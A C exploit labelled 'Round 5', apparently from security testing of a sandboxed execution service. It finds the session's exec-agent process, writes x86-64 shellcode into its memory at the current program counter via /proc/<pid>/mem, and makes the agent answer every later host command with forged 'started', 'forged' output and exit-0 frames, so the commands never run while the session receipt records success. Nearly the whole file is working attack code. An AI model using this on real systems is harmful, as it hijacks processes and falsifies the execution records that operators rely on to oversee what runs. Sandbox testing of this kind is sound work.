// Round 5: a session command takes over the session's exec agent through
// /proc/<agent>/mem (same uid, same sandbox; Yama absent or ptrace_scope 0)
// and answers every later command the host sends with a forged
// STARTED/STDOUT("forged")/EXIT(0): nothing of those commands runs, and the
// session receipt records exit 0 for them.
// Usage inside the session: ./agent-hijack  (daemonizes, injects after 1 s)
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern unsigned char sc_start[], sc_end[];
__asm__(
    ".text\n.globl sc_start\n.globl sc_end\n"
    "sc_start:\n"
    "  mov %rsi,%r14\n mov %rax,%r15\n"                                             /* the agent's own read(3, buf): buf, n */
    "  mov $72,%eax\n mov $3,%edi\n mov $4,%esi\n xor %edx,%edx\n syscall\n"          /* fcntl(3,F_SETFL,0) */
    "  mov $9,%eax\n xor %edi,%edi\n mov $0x11000,%esi\n mov $3,%edx\n mov $0x22,%r10d\n"
    "  mov $-1,%r8\n xor %r9d,%r9d\n syscall\n"                                       /* mmap rw anon */
    "  mov %rax,%r12\n lea 0x10000(%rax),%r13\n"
    "  lea tmpl(%rip),%rsi\n mov %r13,%rdi\n mov $43,%ecx\n rep movsb\n"
    "  test %r15,%r15\n jle 1f\n cmpb $1,4(%r14)\n jne 1f\n mov 5(%r14),%ebx\n jmp 2f\n"  /* answer the frame it read */
    "1: xor %eax,%eax\n mov $3,%edi\n mov %r12,%rsi\n mov $65536,%edx\n syscall\n"    /* read(3) */
    "  test %rax,%rax\n jle 9f\n"
    "  cmpb $1,4(%r12)\n jne 1b\n"                                                    /* EXEC? */
    "  mov 5(%r12),%ebx\n"
    "2: mov %ebx,5(%r13)\n mov %ebx,18(%r13)\n mov %ebx,34(%r13)\n"
    "  mov $1,%eax\n mov $3,%edi\n mov %r13,%rsi\n mov $43,%edx\n syscall\n"          /* write(3, frames) */
    "  jmp 1b\n"
    "9: mov $60,%eax\n xor %edi,%edi\n syscall\n"
    "tmpl:\n"
    "  .byte 0,0,0,9, 17, 0,0,0,0, 0,0,0,2\n"                                         /* STARTED pid 2 */
    "  .byte 0,0,0,12, 18, 0,0,0,0\n .ascii \"forged\\n\"\n"                          /* STDOUT */
    "  .byte 0,0,0,10, 20, 0,0,0,0, 0, 0,0,0,0\n"                                     /* EXIT exited 0 */
    "sc_end:\n");

static int find_agent(void) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  char path[64], buf[256];
  while (d && (e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0) continue;
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0) {
      buf[n] = 0;
      if (strstr(buf, "exec-agent") && !strstr(buf, "bwrap")) return pid;
    }
  }
  return -1;
}

int main(void) {
  FILE *log = fopen("hijack.log", "w");
  if (!log) return 1;
  setvbuf(log, NULL, _IONBF, 0);
  if (fork() != 0) return 0;  // the command exits now; its child injects later
  setsid();
  int null = open("/dev/null", O_RDWR);
  dup2(null, 0), dup2(null, 1), dup2(null, 2);
  sleep(1);
  int pid = find_agent();
  fprintf(log, "agent pid %d\n", pid);
  char path[64], sys[512] = {0};
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  int fd = open(path, O_RDONLY);
  char st[4096] = {0};
  read(fd, st, sizeof st - 1);
  close(fd);
  char *threads = strstr(st, "Threads:");
  fprintf(log, "%.*s\n", threads ? 12 : 0, threads ? threads : "");
  snprintf(path, sizeof path, "/proc/%d/syscall", pid);
  fd = open(path, O_RDONLY);
  if (fd < 0 || read(fd, sys, sizeof sys - 1) <= 0) { fprintf(log, "syscall: %m\n"); return 1; }
  close(fd);
  fprintf(log, "syscall: %s", sys);
  unsigned long long pc = 0;
  char *last = strrchr(sys, ' ');
  if (last) pc = strtoull(last + 1, NULL, 16);
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  fd = open(path, O_RDWR);
  if (fd < 0) { fprintf(log, "open mem: %m\n"); return 1; }
  ssize_t w = pwrite(fd, sc_start, sc_end - sc_start, (off_t)pc);
  fprintf(log, "wrote %zd of %ld bytes at pc 0x%llx: %s\n", w, (long)(sc_end - sc_start), pc, w > 0 ? "INJECTED" : "failed");
  return 0;
}
